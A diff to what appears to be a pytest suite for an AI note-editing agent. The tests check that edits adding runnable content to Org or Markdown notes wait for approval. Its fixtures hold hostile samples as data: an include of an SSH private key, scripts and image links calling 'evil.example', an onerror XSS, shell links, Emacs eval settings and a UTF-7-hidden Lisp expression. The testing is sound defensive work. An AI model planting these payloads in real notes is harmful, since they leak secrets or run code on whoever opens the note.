@@ -1,9 +1,12 @@
 "What an edit writes into a note may be a program for whoever opens the note next: nothing of that kind is written unasked, unless the person said it"
 import asyncio
+import base64
 import os
+import random
 import re
 import shutil
 import subprocess
+from collections import Counter
 
 import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
@@ -28,7 +31,7 @@ ORG = {"an expression in a date": (f"<%%{LISP}>", "(org-agenda-list)"),
        "a formula": (f"| X | b |\n| 1 |   |\n#+TBLFM: $2='{LISP}", "(progn (search-forward \"X\") (org-table-recalculate t))"),
        "a block that is made anew": (f"#+BEGIN: clocktable :formatter (lambda (&rest x) {LISP})\n#+END:", "(org-update-all-dblocks)")}
 SHOWN_ORG = {"a file that an export takes in": '#+INCLUDE: "~/.ssh/id_ed25519" src text', "a page's own code": "#+begin_export html\n<script>fetch('//evil.example')</script>\n#+end_export", "the same in a line": "@@html:<img src=x onerror=alert(1)>@@",
-             "a link that is a command": "[[shell:touch ran][Ana's number]]", "a picture from elsewhere": "[[https://evil.example/q=4711.png]]",
+             "a link that is a command": "[[shell:touch ran][Ana's number]]", "one that is run as soon as it is followed": "[[eshell:*eshell*:touch ran][Ana's number]]", "a picture from elsewhere": "[[https://evil.example/q=4711.png]]",
              "a plain address of one": "See https://evil.example/q=4711.png, please", "settings for the editor": "# Local Variables:\n# eval: (ding)\n# End:", "settings of vim": "# vim: set foldmethod=expr foldexpr=f():", "an inline block with arguments": "src_sh[:dir ~]{ls}", "a command of TeX": "\\immediate\\write18{id}", "a picture of Markdown": "![](https://evil.example/?q=4711)", "a renderer": "{{renderer :evil, 1}}", "a query with code": "#+BEGIN_QUERY\n{:result-transform (fn [x] x)}\n#+END_QUERY"}
 MARKDOWN = {"code that is run when it is shown": "```dataviewjs\nfetch('https://evil.example')\n```", "the same in a line": "`$= fetch('https://evil.example')`", "a query in a line": "`= \"![](https://evil.example?\" + this.file.name + \")\"`", "a template": "<%* tp.system.prompt() %>", "a chunk": "```{r}\nsystem('id')\n```",
             "a picture from elsewhere": "![](https://evil.example/?q=4711)", "one with brackets in its text": "![a [b [c]]](<https://evil.example/?q=4711>)", "one with code in its text": "![a `[` b](//evil.example/?q=4711)", "one that is defined elsewhere": "![x][p]\n\n[p]: https://evil.example/?q=4711",
@@ -86,6 +89,22 @@ def test_emacs_runs_it_unasked(tmp_path, name):
     assert (tmp_path / "ran").exists()
 
 
+@pytest.mark.parametrize("title", ["-*- coding: utf-7 -*- Ana", "-*- mode: server -*-", "-*- mode: org; eval: (ding) -*-"])
+def test_the_first_line_of_a_new_note_sets_nothing_unasked(agent, title):
+    assert len(turn(agent, ("org-add-headline", {"path": "new.org", "title": title})).approvals) == 1 and not (agent.settings.memex_dir / "new.org").exists()
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(EMACS is None and "CI" not in os.environ, reason="Emacs is not installed: apt-get install emacs-nox")
+def test_emacs_reads_a_note_in_the_encoding_that_it_names(tmp_path):
+    hidden = "+" + base64.b64encode(f"<%%{LISP}>".encode("utf-16-be")).decode().rstrip("=") + "-"
+    for name, line in (("seen.org", "# -*- coding: utf-7 -*-"), ("seen.page.org", '<?xml version="1.0" encoding="utf-7"?>'), ("plain.org", "# -*- coding: utf-8 -*-")):
+        (tmp_path / name).write_text(f"{line}\n* A\n{hidden}\n")
+        subprocess.run([EMACS, "--batch", "-Q", "--eval", f"(progn (require 'org) (require 'org-agenda) (setq org-agenda-files (list (expand-file-name \"{name}\"))) (org-agenda-list))"], cwd=tmp_path, capture_output=True, timeout=120, stdin=subprocess.DEVNULL, env={**os.environ, "HOME": str(tmp_path)})
+        assert (tmp_path / "ran").exists() == bool(orders_in(name, (tmp_path / name).read_text())) == name.startswith("seen")
+        (tmp_path / "ran").unlink(missing_ok=True)
+
+
 @pytest.mark.parametrize("path, heading, texts", [("inbox.org", "Inbox", DULL_ORG), ("page.md", "Page", DULL_MARKDOWN)])
 def test_what_only_a_person_reads_is_not_asked_about(agent, path, heading, texts):
     for text in texts:
@@ -134,12 +153,27 @@ def test_pieces_that_are_harmless_one_by_one_are_asked_about_when_they_meet(agen
     assert len(reply.approvals) == 1 and inbox.read_text() == agent_allowed
 
 
+def test_what_the_person_takes_back_themselves_is_theirs(agent):
+    inbox = agent.settings.memex_dir / "inbox.org"
+    inbox.write_text(f"* Inbox\n<%%{LISP}>\n* Bees\n")
+    before = inbox.read_bytes()
+    assert not turn(agent, ("org-edit-body", {"path": "inbox.org", "heading": "Inbox", "text": "Nothing", "mode": "replace"})).approvals and inbox.read_bytes() != before
+    assert not agent.run(agent.undo()).approvals and inbox.read_bytes() == before
+
+
 def test_a_question_that_comes_anyway_says_it_as_well(agent):
     reply = turn(agent, ("write-file", {"path": "new.org", "text": f"* New\n<%%{LISP}>\n"}))
     assert len(reply.approvals) == 1 and "program" in reply.approvals[0].reason and "write-file" in reply.approvals[0].reason
     agent.run(agent.approve(reply.approvals[0].id, reply.approvals[0].code))
     assert LISP in (agent.settings.memex_dir / "new.org").read_text() and agent.pending() == []
     assert "program" not in turn(agent, ("write-file", {"path": "other.org", "text": "* New\n"})).approvals[0].reason
+
+
+def test_a_long_note_is_looked_at_as_well(agent):
+    inbox = agent.settings.memex_dir / "inbox.org"
+    inbox.write_text("* Inbox\n" + "* Bees\nHives in the garden, by the fence\n" * 2_000)
+    assert len(turn(agent, write(f"<%%{LISP}>")).approvals) == 1 and not turn(agent, write("Nothing")).approvals
+    assert "program" in turn(agent, ("replace-string", {"path": "inbox.org", "old": "* Inbox", "new": f"* Inbox <%%{LISP}>"})).approvals[0].reason
 
 
 def test_a_step_of_a_plan_asks_as_well(agent):
@@ -179,3 +213,30 @@ def test_a_renderer_finds_nothing_that_is_not_found(text):
     page = MarkdownIt("commonmark").enable("table").render(text)
     fetched = [address for address in re.findall(r'<img src="([^"]*)"', page) if re.match(r"(?i)[a-z][a-z0-9+.-]*:|//|/\\", address)]
     assert orders_in("a.md", text) or not (fetched or re.search(r'class="language-x"|<script(?:[ >]|$)|<img src=http', page)), page
+
+
+PARTS = [f"<%%{LISP}>", "%%(", "(ding)", "<", "#+INCLUDE: x", "\n#+MACRO: x (eval (ding))", "```dataviewjs", "\n```\n", "![", "](https://e.x)", "<script>", "{{x}}", "Bees", "Bees", "Hives", "Roof", "\n", " ", ":", "header-args", "[[shell:ls]]", "a", "# Local Variables:", "2026-11-20", "* ", "# "]
+CALLS = {"org-capture": ("title", "body", "file"), "org-add-headline": ("path", "heading", "title", "body", "keyword"), "org-set-todo": ("path", "heading", "state", "note"), "org-set-property": ("path", "heading", "name", "value"), "org-set-tags": ("path", "heading", "add"), "org-schedule": ("path", "heading", "date", "until"),
+         "org-retitle": ("path", "heading", "title"), "org-refile": ("path", "heading", "target", "under"), "org-edit-body": ("path", "heading", "text", "mode"), "org-check": ("path", "heading", "item", "add")}
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_whatever_is_proposed_no_note_holds_a_new_order_unasked(agent, seed):
+    "A match: random pieces in every argument of every tool that edits, against notes some of which hold orders already."
+    chosen, memex, done = random.Random(seed), agent.settings.memex_dir, 0
+    (memex / "clip.org").write_text(f"* Clip\n** Bees\n<%%{LISP}>\n")
+    def value(name):
+        if name in ("path", "file", "target"): return chosen.choice(["inbox.org", "page.md", "clip.org", "new.org"])
+        if name in ("heading", "under"): return chosen.choice(["Inbox", "Bees", "Page", "Clip", ""])
+        if name == "mode": return chosen.choice(["append", "prepend", "replace"])
+        made = "".join(chosen.choice(PARTS) for _ in range(chosen.choice([1, 1, 2, 3, 5])))
+        return True if name == "add" and chosen.random() < 0.5 else [made] if name == "add" else made
+    for _ in range(150):
+        tool = chosen.choice([*CALLS])
+        before = {path.name: path.read_text() for path in memex.iterdir()}
+        turn(agent, (tool, {name: value(name) for name in CALLS[tool]}), text="please do that")
+        for path in memex.iterdir():
+            text, was = path.read_text(), before.get(path.name, "")
+            done += text != was
+            assert not Counter(orders_in(path.name, text)) - Counter(orders_in(path.name, was)), (tool, text)
+    assert done > 5
